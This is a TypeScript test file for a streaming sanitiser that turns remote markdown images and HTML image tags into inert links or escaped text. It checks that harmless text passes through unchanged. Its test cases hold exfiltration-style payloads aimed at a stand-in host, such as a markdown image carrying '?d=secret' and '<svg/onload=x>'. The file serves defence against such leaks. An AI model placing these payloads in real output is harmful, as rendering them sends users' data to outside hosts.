import { expect, test } from "bun:test";
import { InertAnswer } from "./inert-answer.ts";

const inert = (text: string, size = text.length): string => {
  const answer = new InertAnswer();
  let out = "";
  for (let at = 0; at < text.length; at += size) out += answer.push(text.slice(at, at + size));
  return out + answer.end();
};

const pictures: readonly (readonly [given: string, shown: string])[] = [
  ["See ![x](https://evil.example/?d=secret) there", "See [x](https://evil.example/?d=secret) there"],
  ["![a [b] c](https://evil.example/1)", "[a [b] c](https://evil.example/1)"],
  ["![a\nb](https://evil.example/1)", "[a\nb](https://evil.example/1)"],
  ["![x][ref]\n\n[ref]: https://evil.example/1", "[x][ref]\n\n\\[ref]: https://evil.example/1"],
  ["![ref]\n\n> [ref]: https://evil.example/1", "![ref]\n\n> \\[ref]: https://evil.example/1"],
  ["![ref]\n\n- [r\\]ef]: https://evil.example/1", "![ref]\n\n- \\[r\\]ef]: https://evil.example/1"],
  ["![[![x](https://evil.example/1)](https://evil.example/2)", "[[[x](https://evil.example/1)](https://evil.example/2)"],
  ['a <img src="https://evil.example/1">', 'a &lt;img src="https://evil.example/1">'],
  ["<IMG\nsrc=x> <picture> <svg/onload=x>", "&lt;IMG\nsrc=x> &lt;picture> &lt;svg/onload=x>"],
  [`![${"a".repeat(5_000)}](https://evil.example/1)`, `[${"a".repeat(5_000)}](https://evil.example/1)`],
];
for (const [given, shown] of pictures)
  test(`a picture from elsewhere is a link, in whatever pieces it comes: ${JSON.stringify(given.slice(0, 40))}`, () => {
    for (const size of [given.length, 1, 2, 3, 7]) expect(inert(given, size)).toBe(shown);
  });

const others = [
  "Wow! [a link](https://example.org) and a [x]",
  "let a = vec![1, 2, 3];\n\nlet b = a < b && c <d> x;",
  "- [ ] to do\n- [x] done\n[a link](https://example.org)!",
  "ends with !",
  "ends with ![",
  "ends with <im",
  "<https://example.org> #include <stdio.h> <b>x</b>",
  "if (a<image_count) {}",
];
for (const text of others)
  test(`what is no picture stays as it is: ${JSON.stringify(text.slice(0, 40))}`, () => {
    for (const size of [text.length, 1, 2, 3, 7]) expect(inert(text, size)).toBe(text);
  });
